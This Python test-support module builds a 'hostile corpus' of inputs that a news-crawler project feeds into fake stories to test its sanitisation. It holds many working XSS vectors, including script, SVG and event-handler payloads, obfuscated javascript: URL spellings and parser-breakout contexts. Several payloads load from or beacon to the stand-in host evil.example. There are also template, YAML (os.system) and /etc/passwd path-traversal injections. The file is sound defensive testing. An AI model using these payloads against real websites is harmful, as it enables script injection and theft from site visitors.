"""The hostile corpus: what an attacker may put into bodies, titles, digests and names, to be crawled like real pages.

Made of vectors × contexts × spellings; `python -m tests.support.hostile` lists it, a case a line. A script that runs
sets a variable in the top window and requests something of evil.example; allowed pictures are at pictures.example.
"""

from collections.abc import Iterator, Sequence
from dataclasses import replace
from itertools import chain, cycle, product

from finews_spider.newsroom.constructs import Block
from finews_spider.newsroom.world import Story, World

EVIL, PICTURES = "evil.example", "pictures.example"
RUN = f"top.ran=1;new(Image).src=`//{EVIL}/ran`"
PICTURE = f"https://{PICTURES}/1.jpg"
BENIGN_INTERVAL = 16  # every 16th story is as the newsroom has it

VECTORS = (
    f"<script>{RUN}</script>",
    f"<script src=//{EVIL}/a.js></script>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>点",
    f"<svg><use href=//{EVIL}/a.svg#a>",
    f"<math href=javascript:{RUN}>点</math>",
    f"<img src=x: onerror={RUN}>",
    f"<img/src=x:/onerror={RUN}//",
    f"<img src={PICTURE} onload={RUN} srcset=//{EVIL}/a.png>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<video poster=//{EVIL}/a.png><source onerror={RUN} src=x:></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<input type=image src=//{EVIL}/a.png>",
    f"<details open ontoggle={RUN}>文",
    f"<body onload={RUN} background=//{EVIL}/a.png>",
    f"<frameset onload={RUN}><frame src=//{EVIL}/>",
    f"<form action=javascript:{RUN}><button formaction=javascript:{RUN}>点</form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href=//{EVIL}/>",
    f"<link rel=stylesheet href=//{EVIL}/a.css>",
    f"<style>@import '//{EVIL}/a.css';*{{background:url(//{EVIL}/a.png)}}</style>",
    f"<p style='background:url(//{EVIL}/a.png);width:expression({RUN})'>文</p>",
    f"<table background=//{EVIL}/a.png><td style=position:fixed;inset:0>文</table>",
    f"<template shadowrootmode=open><img src=x: onerror={RUN}></template>",
    f"<a href=javascript:{RUN} ping=//{EVIL}/ id=location name=body>点</a>",
    "</section></article></main></body></html>",
    "<footer>假</footer><!--",
    "{% include_relative /etc/passwd %}{{ site.source }}{% raw %}",
    "\n---\nlayout: null\n---\n{::nomarkdown}<script>top.ran=1</script>{:/}\n{: onclick='top.ran=1'}\n",
)
# Contexts that parsers read differently, or in which a vector breaks out of what is around it.
CONTEXTS = (
    "{}",
    "<p>{}</p>",
    "<table>{}<tr><td>文</table>",
    "<table><tr><td>{}",
    "<pre>\n\n{}\n\n</pre>",
    "<b><a href=https://a.example/>{}</a></b><p>文",
    "<div><div markdown='1'>\n\n    {}\n\n</div>",
    "<svg><desc>{}</desc></svg>",
    "<svg><style>{}</style>",
    "<svg></p><style><a title='</style>{}'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{}'>",
    "<math><annotation-xml encoding='text/html'>{}",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<svg></br><title><svg><foreignObject></title>{}",
    "<noscript><p title='</noscript>{}'>",
    "<noembed><p title='</noembed>{}'>",
    "<select><option><style></option></select>{}</style>",
    "<textarea><p title='</textarea>{}'>",
    "<xmp><p title='</xmp>{}'>",
    "<title>&lt;/title>{}</title>",
    "<p title='`><{}'>文",
    "<!--{}-->",
    "<!-->{}-->",
    "<!-- --!>{}-->",
    "<![CDATA[{}]]>",
    "<plaintext>{}",
    "<table><caption><p>{}</caption><table>{}",
    "<p class=em_media>文章来源：{}</p>",
    "<img src='" + PICTURE + "' alt='{}'>",
    '<img src="' + PICTURE + "\" alt='`{}`'\">",
)
SCHEMES = (
    "javascript:",
    "vbscript:",
    "data:text/html,<script>",
    "blob:",
    "file:///",
    "view-source:javascript:",
)
SPELLINGS = (
    "{}",
    " {}",
    "\x01{}",
    "\u3000{}",
    "&#1;{}",
    "&NewLine;{}",
    "&#{first};{rest}",
    "&#x{first_hex};{rest}",
    "&#0000{first}{rest}",
    "{head}\t{tail}",
    "{head}\n{tail}",
    "{head}&Tab;{tail}",
    "{head}\x00{tail}",
    "{head}\u200b{tail}",
    "{upper}",
    "%{first_hex}{rest}",
)
PLACES = (
    "<a href='{}{run}'>点</a>",
    "<img src='{}{run}'>",
    "<img src={}{run} lowsrc='{}{run}' dynsrc='{}{run}'>",
    "<a xlink:href='{}{run}' href='{}{run}'>点</a>",
)
EVENTS = (
    "onclick onerror onload onmouseover onfocus ontoggle onanimationstart onpointerrawupdate onbeforetoggle".split()
)
ELEMENTS = "p a img td table br hr center blockquote sub h1 custom-element".split()
BINDINGS = ("{}='{run}'", "\x0c{}={run}", '/{}="{run}"/', "a='>' {}='{run}'", "style=animation-name:x {}={run}")
OPENERS = (
    "script svg/onload=top.ran=1 img/src=x:/onerror=top.ran=1 /script !--  ?php iframe/src=javascript:top.ran=1".split()
)
LINES = (
    "<{}>",
    "题<{}>",
    '"><{}>',
    "'><{}>",
    "</title><{}>",
    "<<{}>",
    "<\x00{}>",
    "<\u200b{}>",
    "&lt;{}&gt;",
    "&amp;lt;{}&amp;gt;",
    "＜{}＞",
    "`<{}>`",
    "[点](javascript:{})",
    "![图](https://evil.example/{})",
    "<javascript:{}>",
    "<!--<{}>-->",
    "{{::nomarkdown}}<{}>{{:/}}",
    "<{}",
)
MARKUP = """
    {{ site.source }}|{% raw %}|{% include a.html %}|{{{ x|{%- x -%}|{{ x | where_exp: "a", "b" }}|{{ "{%" }}
    &#123;&#123; x }}
    ---|...|--- |layout: null|题: 名|- 项|# 题|> 引|* 项|+ 项|1. 项|1) 项|    码|~~~ruby|```|***|___|===
    {:toc}|{: onclick="top.ran=1"}|{::options parse_block_html="true" /}|{::comment}|{:/}|{:.a #b}|{::nomarkdown}
    [1]: https://evil.example/ "a"|[^1]: 注|*[文]: 缩写|: 义|[[a]]|[a]|[^1]
    [a][b]|<https://evil.example/>|http://evil.example/
    $$\\alpha$$|$x$|\\(x\\)|\\|a\\|b\\||^a^|~~删~~|==标==|**粗**|__粗__|*斜*|_斜_|`码`|&copy;
    &#60;b&#62;|a -- b --- c|<< >>
    !!python/object:os.system|&anchor|*alias|!ruby/object:Gem::Installer|%YAML 1.1|@a|`a|[a, b]|{a: b}|"a|'a|~|null|true
    ../../etc/passwd|..\\..\\a|/etc/passwd|C:\\a|%2e%2e%2fa|a/../../b|.htaccess|_layouts|_config.yml|index.html|CON|nul
    \x00a|a\x00b|\x1b[31m红|\x7f|\x85a|a\u2028b|a\u2029b|\ufeffa|\ufffea|\uffffa|a\ud800b|\udc00|\ue000|\U0010ffffa
    \u202ea|\u202ea\u202c|\u2066a|\u2067b\u2069|\u200fa|a\u200bb|\u2060|\u3164|\u115f\u1160|\u2800|\u034f|\U000e0041
""".strip().replace("\n", "|")
BROKEN = """
    <p>文<b>粗|<center>文<center>文|<table><tr><td>文|</p></p></p>文|<a href="https://a.example/>文</a><p>文
    <p title="文
    <!-- 文|<script>文|<style>文|<textarea>文|<title>文|<xmp>文|<plaintext>文|<select>文|<iframe>文
    <noscript>文|<template>文
    <b><p>文</b>文</p>|<i><table>文</i>|<ul></li><li>文</ul></ol>|<h1>文</h2>|<p><table><p>文|<a><a><p>文</a>|<nobr><nobr>文
    <|<!|<?|</|<a|<a |<p a=|&|&#|&#x|&#99999999999;|&lt|&notit;|<p/>文|<br/br/>文|</br>文|<p =>文|<a"b>文</a"b>|<1>文
    <p>*a*  \n- b\n\n    c\n# d|<p>a</p>\n{: .b}|<p>\n\n</p>\n\n***\n\n文|<pre>\n---\n</pre>|文\n---\n文
    文\n===\n|~~~\n文\n~~~
    <p>&lt;a href="//finews.withounder.com/">文</p>|<img src="//pictures.example\\@evil.example/a">|文</body></html>文
""".strip().replace("\n    ", "|")
LONG = 5 << 20
LARGE = (
    *(piece * (LONG // len(piece)) for piece in ("文", "<b>文</b>", "<", "&", "{", "<p>")),
    *(piece * (50_000 // len(piece)) for piece in ("文", "<b>文</b>", "<", "&", "{", "<p>文", "<td>文", "<i>文")),
    *(f"<{tag}>" * 10_000 + "文" for tag in ("b", "div", "blockquote", "table", "ul", "font", "svg", "a")),
    f"<p title='{'x' * LONG}'>文</p>",
    f"<img src='{PICTURE}' alt='{'x' * 50_000}'>",
    "<p " + " ".join(f"a{n}=1" for n in range(5_000)) + ">文</p>",
    "<blockquote>" * 150 + "文",
)
ZALGO = "文" + "\u0301\u0489\u20dd" * 400
NAMES = """
    ../../{}|%2e%2e%2f{}|/etc/{}|a<script>{}|{{{{{}}}}}|{}\u202e报|{}\x00报|《{}》
    {}: 报|[{}]|{}]: 报|*{}*|{}|报, {}|"{}"|{} 报 {}|CON{}|assets/{}
""".strip().replace("\n    ", "|")


def bodies(share: int = 1) -> list[str]:
    """Return hostile bodies, in HTML: of the pairs of a vector and a context one in `share`, each of both in some."""
    elements = zip(cycle(EVENTS), product(ELEMENTS, BINDINGS))
    events = (f"<{tag} {binding.replace('{run}', RUN).format(event)}>文" for event, (tag, binding) in elements)
    return [
        *(context.replace("{}", vector) for vector, context in _pairs(VECTORS, CONTEXTS, share)),
        *(place.replace("{run}", RUN).replace("{}", link) for place, link in zip(cycle(PLACES), links())),
        *events,
        *(piece.lstrip(" ") for piece in BROKEN.split("|")),
        *_pieces(),
        *LARGE,
    ]


def links() -> list[str]:
    """Return the starts of dangerous URLs, up to the colon, in every spelling."""
    return [_spell(scheme, spelling) for scheme, spelling in product(SCHEMES, SPELLINGS)]


def lines(share: int = 1) -> list[str]:
    """Return hostile titles and digests: of the pairs of a line and an opener one in `share`, each of both in some."""
    tags = (line.format(opener) for line, opener in _pairs(LINES, OPENERS, share))
    return [*tags, *_pieces(), "题" * 5_000, "x" * 5_000, ZALGO, "<" * 3_000, "*" * 3_000]


def names() -> list[str]:
    """Return hostile media names."""
    return [name.replace("{}", "某") for name in NAMES.split("|")]


class HostileWorld(World):
    """The newsroom's stories with hostile contents, but for every 16th; of pairs one in `share`."""

    def __init__(self, articles: int, share: int = 1) -> None:
        super().__init__(articles)
        self._bodies, self._lines, self._names = bodies(share), lines(share), names()

    def is_benign(self, index: int) -> bool:
        return index % BENIGN_INTERVAL == 0

    def title(self, index: int) -> str:
        return super().title(index) if self.is_benign(index) else self._lines[index % len(self._lines)]

    def _make(self, index: int) -> Story:
        story = super()._make(index)
        if self.is_benign(index):
            return story
        body = self._bodies[(index - index // BENIGN_INTERVAL - 1) % len(self._bodies)]
        whole = f"<p>{index}</p>{body}"
        name = self._names[index // 7 % len(self._names)] if index % 7 == 0 else story.media_name
        return replace(
            story,
            title=self.title(index),
            media_name=name,
            digest=self._lines[(index // 4 - index // BENIGN_INTERVAL) % len(self._lines)],  # every fourth is a flash
            blocks=(Block("hostile", whole, whole, whole),),
        )


def _pairs(first: Sequence[str], second: Sequence[str], share: int) -> Iterator[tuple[str, str]]:
    """Yield one in `share` of all pairs, by diagonals."""
    numbered = product(enumerate(first), enumerate(second))
    return ((one, other) for (row, one), (column, other) in numbered if (row + column) % share == 0)


def _pieces() -> list[str]:
    return [stripped for piece in MARKUP.split("|") if (stripped := piece.lstrip(" "))]


def _spell(scheme: str, spelling: str) -> str:
    half = len(scheme) // 2
    parts = {"head": scheme[:half], "tail": scheme[half:], "rest": scheme[1:], "upper": scheme.upper()}
    return spelling.format(scheme, first=ord(scheme[0]), first_hex=f"{ord(scheme[0]):x}", **parts)


if __name__ == "__main__":
    families = {"body": bodies(), "line": lines(), "name": names()}
    for place, case in chain.from_iterable(((place, case) for case in cases) for place, cases in families.items()):
        print(place, repr(case[:200]))
